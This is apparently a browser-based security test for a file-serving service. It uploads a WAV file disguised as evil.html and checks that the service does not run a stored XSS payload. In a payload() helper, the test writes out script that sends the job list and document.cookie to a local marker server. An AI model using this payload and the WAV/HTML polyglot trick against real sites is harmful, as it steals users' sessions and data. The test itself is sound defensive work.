// Stored XSS through served files, tried in a real browser: a real `didactic-engine serve` with two
// clients, a valid WAV named `evil.html` whose JUNK chunk holds HTML with a script (it would retitle
// the page, read the client's job list with the cookie and send it, and the cookie, to a marker
// server), uploaded and processed to completion. Chromium signs in through the service's page and
// then opens every file of the job's result, the upload's old name (`input/evil/evil.html`, gone)
// and the stored input copy: no script runs, no marker request arrives, no CSP violation is
// reported, and page script cannot read the cookie. The job's report still renders with its own
// scripts. Skipped when findChromium() finds no browser (CI installs one).
import { createServer, type Server as HttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';

import type { Browser, Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { CHROMIUM_FLAGS, findChromium } from '../../lib/reports/html/png.js';
import { FAST_CONFIG, getJson, sleep, startServe, stopAll, submit, waitForJob, writeClip, type Server } from '../service/harness.js';
import { useTempDir } from '../helpers/tmp.js';
import { installedChromium, requires } from '../helpers/requires.js';

const chromium = findChromium();
const ALICE = 'alice-xss-secret';
const BOB = 'bob-xss-secret';
const PAGE_TITLE = 'didactic-engine';

/** What the stored script would do if it ran: every effect is observable by the test. */
function payload(marker: string): string {
  const js = [
    "document.title='pwned';",
    `fetch('/v1/jobs').then(function(r){return r.text()}).then(function(t){fetch('${marker}/stolen?d='+encodeURIComponent(t.slice(0,400)),{mode:'no-cors'})});`,
    `new Image().src='${marker}/cookie?c='+encodeURIComponent(document.cookie);`,
    "fetch('/pwned?c='+encodeURIComponent(document.cookie));",
  ].join('');
  return `<!doctype html><html><head><title>evil</title></head><body><script>${js}</script><img src="${marker}/img" onerror="document.title='pwned'"></body></html>`;
}

/** A valid WAV with a JUNK chunk right after the RIFF header: the HTML sits in the first bytes, where sniffing looks. */
function withJunkChunk(wav: Uint8Array, text: string): Uint8Array {
  const body = Buffer.from(text, 'latin1');
  const padded = body.length % 2 === 0 ? body : Buffer.concat([body, Buffer.from(' ')]);
  const header = Buffer.alloc(8);
  header.write('JUNK', 0, 'latin1');
  header.writeUInt32LE(padded.length, 4);
  const src = Buffer.from(wav);
  expect(src.toString('latin1', 0, 4)).toBe('RIFF');
  const out = Buffer.concat([src.subarray(0, 12), header, padded, src.subarray(12)]);
  out.writeUInt32LE(out.length - 8, 4);
  return out;
}

describe('a stored HTML upload in Chromium', requires(installedChromium()), () => {
  const dir = useTempDir('didactic-service-xss-');
  let browser: Browser;
  let server: Server;
  let marker: HttpServer;
  let markerUrl = '';
  /** Requests that reached the marker server. */
  const markerHits: string[] = [];
  /** Requests any tab made for the marker or the script's same-origin beacon. */
  const beacons: string[] = [];
  let job: { id: string; result: { files: string[] } };

  beforeAll(async () => {
    marker = createServer((req, res) => {
      markerHits.push(req.url ?? '');
      res.writeHead(204, { 'access-control-allow-origin': '*' });
      res.end();
    });
    await new Promise<void>((resolve) => marker.listen(0, '127.0.0.1', resolve));
    markerUrl = `http://127.0.0.1:${(marker.address() as AddressInfo).port}`;

    server = await startServe(['--data-dir', join(dir, 'data'), '--token', `alice:${ALICE}`, '--token', `bob:${BOB}`, '--jobs', '1']);
    const evil = withJunkChunk(await writeClip(join(dir, 'clip.wav'), 3), payload(markerUrl));
    const sent = await submit(server.url, evil, { config: JSON.stringify(FAST_CONFIG) }, { authorization: `Bearer ${ALICE}` }, 'evil.html');
    expect(sent.status).toBe(202);
    job = await waitForJob(server.url, sent.body.id as string, (s) => s.state === 'completed' || s.state === 'failed', 90_000, {
      authorization: `Bearer ${ALICE}`,
    });

    const puppeteer = await import('puppeteer-core');
    browser = await puppeteer.launch({ executablePath: chromium!, args: CHROMIUM_FLAGS });
  }, 150_000);

  afterAll(async () => {
    await browser?.close();
    await stopAll();
    await new Promise((resolve) => marker?.close(resolve));
  });

  /** A tab that records console errors, page errors, CSP violations and marker requests. */
  async function watchedTab(): Promise<{ tab: Page; errors: string[]; violations: string[] }> {
    const tab = await browser.newPage();
    const errors: string[] = [];
    const violations: string[] = [];
    tab.on('console', (m) => {
      if (m.type() === 'error') errors.push(m.text());
    });
    tab.on('pageerror', (e) => errors.push(String(e)));
    tab.on('request', (r) => {
      if (r.url().startsWith(markerUrl) || new URL(r.url()).pathname === '/pwned') beacons.push(r.url());
    });
    await tab.exposeFunction('__violation', (v: string) => violations.push(v));
    // Injected by the browser, not by the page: it runs whatever the page's CSP says.
    await tab.evaluateOnNewDocument(
      `document.addEventListener('securitypolicyviolation', (e) => window.__violation(e.violatedDirective + ' ' + (e.blockedURI || 'inline')));`,
    );
    return { tab, errors, violations };
  }

  it('completes the upload under an audio name', () => {
    expect(job.result.files).toContain('input/evil/evil.wav');
    expect(job.result.files.filter((f) => /\.html?$/i.test(f))).toEqual(['reports/evil/report.html']);
  });

  it('runs none of the stored script on any file URL, signed in through the page', async () => {
    // Sign in as a person would: the page's form, the server's HttpOnly cookie.
    const { tab: home, errors: homeErrors } = await watchedTab();
    await home.goto(server.url, { waitUntil: 'load' });
    await home.waitForSelector('#token-form:not([hidden])');
    await home.type('#token', ALICE);
    await home.click('#token-form button');
    await home.waitForFunction(`document.querySelector('#identity').textContent === 'Signed in as alice'`, { timeout: 10_000 });
    await home.waitForSelector(`#job-${job.id}[data-state="completed"]`, { timeout: 10_000 });
    expect(await home.evaluate('document.cookie')).toBe('');
    // Downloads (attachments) are refused rather than written anywhere.
    const cdp = await home.createCDPSession();
    await cdp.send('Browser.setDownloadBehavior', { behavior: 'deny' });

    const base = `${server.url}/v1/jobs/${encodeURIComponent(job.id)}/files/`;
    // The stored input copy (the bytes with the script) and the upload's own name first, then every other file.
    const input = 'input/evil/evil.wav';
    const targets = [input, 'input/evil/evil.html', ...job.result.files.filter((f) => f !== input && !f.endsWith('/report.html'))];
    const seen: Array<{ file: string; status: number | null; type: string | null; disposition: string | null; nosniff: string | null; csp: string | null }> =
      [];
    for (const file of targets) {
      const { tab, violations } = await watchedTab();
      const url = base + file.split('/').map(encodeURIComponent).join('/');
      let status: number | null = null;
      let type: string | null = null;
      let disposition: string | null = null;
      let nosniff: string | null = null;
      let csp: string | null = null;
      tab.on('response', (r) => {
        if (r.url() === url) {
          status = r.status();
          type = r.headers()['content-type'] ?? null;
          disposition = r.headers()['content-disposition'] ?? null;
          nosniff = r.headers()['x-content-type-options'] ?? null;
          csp = r.headers()['content-security-policy'] ?? null;
        }
      });
      // An attachment aborts the navigation (the download is denied); that is the point.
      await tab.goto(url, { waitUntil: 'load', timeout: 15_000 }).catch(() => null);
      await sleep(300);
      expect(await tab.evaluate('document.title'), file).not.toBe('pwned');
      // What script in that document could read of the cookie (an opaque origin, e.g. a denied download's blank tab, reads nothing).
      expect(await tab.evaluate(`(() => { try { return document.cookie; } catch (e) { return e.name === 'SecurityError' ? '' : String(e); } })()`), file).toBe(
        '',
      );
      expect(violations, file).toEqual([]);
      if (/\.wav$/.test(file)) {
        // Audio opens as the browser's own player, which loads it (nothing else may load or run).
        await tab.waitForFunction(`(() => { const v = document.querySelector('video, audio'); return !!v && (v.readyState >= 1 || v.error !== null); })()`, {
          timeout: 10_000,
        });
        const media = await tab.evaluate(
          `(() => { const v = document.querySelector('video, audio'); return { ready: v.readyState, error: v.error && v.error.code }; })()`,
        );
        expect(media, file).toMatchObject({ error: null });
      }
      seen.push({ file, status, type, disposition, nosniff, csp });
      await tab.close();
    }

    // The cookie opened every file; the upload's own name is not served at all.
    for (const s of seen) {
      if (s.file === 'input/evil/evil.html') expect(s.status).toBe(404);
      // The player asks for byte ranges.
      else expect([200, 206], s.file).toContain(s.status);
      expect(s.type ?? '', s.file).not.toMatch(/html/);
      expect(s.nosniff, s.file).toBe('nosniff');
      expect(s.csp ?? '', s.file).toMatch(/default-src 'none'/);
    }
    // The stored input copy is audio, served inline as audio.
    const copy = seen.find((s) => s.file === input)!;
    expect(copy.type).toBe('audio/wav');
    expect(copy.disposition).toMatch(/^inline/);

    // The other client cannot see the job at all.
    expect((await getJson(`${base}input/evil/evil.wav`, { authorization: `Bearer ${BOB}` })).status).toBe(404);

    await sleep(500);
    expect(beacons).toEqual([]);
    expect(markerHits).toEqual([]);
    expect(await home.title()).toBe(PAGE_TITLE);
    expect(homeErrors.filter((e) => !/status of 401/.test(e))).toEqual([]);
  }, 120_000);

  it('renders the report with its own scripts: no console errors, no CSP violations', async () => {
    const { tab, errors, violations } = await watchedTab();
    const res = await tab.goto(`${server.url}/v1/jobs/${encodeURIComponent(job.id)}/files/reports/evil/report.html`, { waitUntil: 'load' });
    expect(res?.status()).toBe(200);
    expect(res?.headers()['content-security-policy']).toMatch(/script-src 'sha256-/);
    await tab.waitForFunction('window.__reportRenderMs !== undefined', { timeout: 20_000 });
    expect(await tab.evaluate('window.__report.errors')).toEqual([]);
    expect(await tab.title()).not.toBe('pwned');
    expect(errors).toEqual([]);
    expect(violations).toEqual([]);
    expect(beacons).toEqual([]);
    expect(markerHits).toEqual([]);
    await tab.close();
  }, 60_000);
});
